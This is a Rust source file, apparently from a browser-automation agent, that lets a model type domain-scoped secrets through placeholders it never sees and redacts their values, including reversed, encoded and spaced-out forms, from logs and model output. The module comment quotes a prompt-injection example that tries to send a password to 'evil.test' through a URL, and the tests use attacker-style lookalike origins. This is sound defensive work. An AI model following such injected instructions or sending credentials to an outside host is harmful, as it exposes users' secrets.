//! Secrets a model may use but never see.
//!
//! The model writes `<secret>NAME</secret>`. The value is put in at the last
//! moment and in one place only: the text of a `type` or `fill` into a field
//! whose document's origin matches the secret's domain (checked on the
//! element itself, so a field in a foreign iframe of an allowed page does
//! not qualify). Anywhere else (a URL to `open`, a script to `eval`, a tab's
//! address, a search in `find`) the placeholder stays as written and the
//! answer says so: a prompt injection that asks for
//! `open https://evil.test/?x=<secret>PW</secret>` sends the placeholder,
//! never the value.
//!
//! Everything that goes back to a model, a log or a history passes
//! [`Secrets::redact`], which replaces the value and its common disguises
//! (reversed, in another case, base64, hex, URL-encoded in any mix, spaced
//! out with invisible characters: [`rove_base::redact::Disguised`], where
//! the list and its limits are) by the secret's placeholder.

use rove_base::redact::Disguised;
use serde_json::Value;

/// One secret.
#[derive(Clone)]
pub struct Secret {
    /// What the model calls it.
    pub name: String,
    /// Its value; never shown.
    pub value: String,
    /// Hosts it may be typed on: `example.com` (and its subdomains),
    /// `*.example.com`, or `None` for any.
    pub domain: Option<String>,
}

impl std::fmt::Debug for Secret {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Secret({}, domain {:?})", self.name, self.domain)
    }
}

impl Secret {
    /// `NAME=value`, optionally scoped as `NAME@domain=value`.
    pub fn parse(spec: &str) -> Option<Secret> {
        let (key, value) = spec.split_once('=')?;
        let (name, domain) = match key.split_once('@') {
            Some((name, domain)) => (name, Some(domain.to_owned())),
            None => (key, None),
        };
        let valid = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        (valid && !value.is_empty()).then(|| Secret {
            name: name.to_owned(),
            value: value.to_owned(),
            domain,
        })
    }

    /// `<secret>NAME</secret>`.
    pub fn placeholder(&self) -> String {
        format!("<secret>{}</secret>", self.name)
    }

    /// Whether a document of `origin` (`https://login.example.com`) may
    /// receive the value.
    fn allowed_on(&self, origin: &str) -> bool {
        let Some(pattern) = &self.domain else {
            return true;
        };
        let Ok(url) = url::Url::parse(origin) else {
            return false;
        };
        let Some(host) = url.host_str() else {
            return false;
        };
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        let (subdomains_only, pattern) = match pattern.strip_prefix("*.") {
            Some(rest) => (true, rest),
            None => (false, pattern.as_str()),
        };
        let pattern = pattern.trim_end_matches('.').to_ascii_lowercase();
        host.ends_with(&format!(".{pattern}")) || (!subdomains_only && host == pattern)
    }

    /// The value and its disguises, each to become the placeholder.
    fn disguised(&self) -> Disguised {
        Disguised::new(&self.value, &self.placeholder())
    }
}

/// The secrets of a session.
#[derive(Debug, Clone, Default)]
pub struct Secrets(pub Vec<Secret>);

/// A placeholder the model wrote that could not be filled in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused {
    /// The secret's name.
    pub name: String,
    /// Where it may be typed.
    pub domain: String,
}

impl Secrets {
    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Whether a secret of this name was given.
    pub fn has(&self, name: &str) -> bool {
        self.0.iter().any(|s| s.name == name)
    }

    /// The line that tells the model which secrets it may use.
    pub fn briefing(&self) -> Option<String> {
        if self.0.is_empty() {
            return None;
        }
        let names: Vec<String> = self.0.iter().map(Secret::placeholder).collect();
        Some(format!(
            "Secrets you may type without seeing them (write the placeholder as the text of type or fill; it works nowhere else): {}",
            names.join(", ")
        ))
    }

    /// The secrets whose placeholder appears in `text`.
    pub(crate) fn named_in<'a>(&'a self, text: &str) -> Vec<&'a Secret> {
        self.0
            .iter()
            .filter(|s| text.contains(&s.placeholder()))
            .collect()
    }

    /// The placeholders in any string of `value` (a command's arguments).
    pub(crate) fn named_in_json<'a>(&'a self, value: &Value) -> Vec<&'a Secret> {
        let mut found = Vec::new();
        let mut stack = vec![value];
        while let Some(v) = stack.pop() {
            match v {
                Value::String(s) => {
                    for secret in self.named_in(s) {
                        if !found.iter().any(|f: &&Secret| f.name == secret.name) {
                            found.push(secret);
                        }
                    }
                }
                Value::Array(items) => stack.extend(items),
                Value::Object(map) => stack.extend(map.values()),
                _ => {}
            }
        }
        found
    }

    /// `text` with each placeholder replaced by its value, for a field whose
    /// document has `origin`. A placeholder of a secret not allowed there
    /// is refused, and nothing is filled in.
    pub(crate) fn fill_in(&self, text: &str, origin: &str) -> Result<String, Refused> {
        let mut out = text.to_owned();
        for secret in self.named_in(text) {
            if !secret.allowed_on(origin) {
                return Err(Refused {
                    name: secret.name.clone(),
                    domain: secret.domain.clone().unwrap_or_default(),
                });
            }
            out = out.replace(&secret.placeholder(), &secret.value);
        }
        Ok(out)
    }

    /// `text` with every secret value, and its disguises, replaced by the
    /// secret's placeholder.
    pub fn redact(&self, text: &str) -> String {
        if self.0.is_empty() {
            return text.to_owned();
        }
        let mut out = text.to_owned();
        for secret in &self.0 {
            out = secret.disguised().hide_in(&out);
        }
        out
    }
}

impl Secrets {
    /// Hides these secrets, and their disguises, from every log line of the
    /// process from now on (`rove_base::redact`): the `cdp` layer at `trace`
    /// sees the pages that echo them.
    pub fn hide_from_logs(&self) {
        for secret in &self.0 {
            rove_base::redact::hide_disguised(secret.disguised());
        }
    }

    /// `value` with [`Secrets::redact`] applied to every string in it, keys
    /// included (a model's tool arguments, as a history records them), by
    /// rove-base's one walker.
    pub fn redact_json(&self, value: &Value) -> Value {
        if self.0.is_empty() {
            return value.clone();
        }
        rove_base::redact::scrub_json_with(value, |s| self.redact(s))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn secrets() -> Secrets {
        Secrets(vec![
            Secret::parse("PASSWORD@example.com=hunter2-Zq").expect("scoped"),
            Secret::parse("TOKEN=abc").expect("any"),
        ])
    }

    #[test]
    fn values_are_filled_in_only_on_their_domain() {
        let s = secrets();
        assert_eq!(
            s.fill_in("<secret>PASSWORD</secret>", "https://login.example.com")
                .expect("allowed"),
            "hunter2-Zq"
        );
        for foreign in [
            "https://evil.test",
            "https://example.com.evil.test",
            "https://notexample.com",
            "null",
            "http://127.0.0.1:8080",
        ] {
            assert!(
                s.fill_in("<secret>PASSWORD</secret>", foreign).is_err(),
                "{foreign}"
            );
        }
        assert_eq!(
            s.fill_in("x <secret>TOKEN</secret>", "https://anywhere.test")
                .expect("any"),
            "x abc"
        );
        assert!(Secret::parse("bad name=x").is_none());
        assert!(!format!("{:?}", s).contains("hunter2"));
    }

    #[test]
    fn each_secret_becomes_its_own_placeholder_in_any_disguise() {
        // The disguises themselves are rove-base's (and tested there).
        let s = secrets();
        let shown = s.redact("pw HUNTER2-ZQ, qZ-2retnuh, h u n t e r 2 - Z q; token abc");
        assert_eq!(
            shown,
            "pw <secret>PASSWORD</secret>, <secret>PASSWORD</secret>, \
             <secret>PASSWORD</secret>; token <secret>TOKEN</secret>"
        );
        let args = serde_json::json!({"text": "hunter2-Zq", "abc": ["x", "%68unter2-Zq"]});
        assert_eq!(
            s.redact_json(&args),
            serde_json::json!({"text": "<secret>PASSWORD</secret>", "<secret>TOKEN</secret>": ["x", "<secret>PASSWORD</secret>"]})
        );
    }

    #[test]
    fn secrets_hidden_from_logs_are_hidden_in_their_disguises() {
        let s = Secrets(vec![Secret::parse("LOGS=tr4ce-Only-9").expect("secret")]);
        s.hide_from_logs();
        s.hide_from_logs();
        assert_eq!(
            rove_base::redact::scrub("echo 9-ylnO-ec4rt and tr4ce%2DOnly%2D9"),
            "echo <secret>LOGS</secret> and <secret>LOGS</secret>"
        );
    }

    #[test]
    fn short_secrets_are_redacted_in_any_case_but_not_disguised() {
        let s = secrets();
        assert_eq!(
            s.redact("abc, ABC and cba"),
            "<secret>TOKEN</secret>, <secret>TOKEN</secret> and cba"
        );
        assert_eq!(s.redact("nothing here"), "nothing here");
    }

    #[test]
    fn placeholders_are_found_in_any_argument() {
        let s = secrets();
        let args = serde_json::json!({"url": "https://x.test/?p=<secret>PASSWORD</secret>", "n": [1, "<secret>TOKEN</secret>"]});
        let mut names: Vec<&str> = s
            .named_in_json(&args)
            .iter()
            .map(|s| s.name.as_str())
            .collect();
        names.sort();
        assert_eq!(names, ["PASSWORD", "TOKEN"]);
    }
}
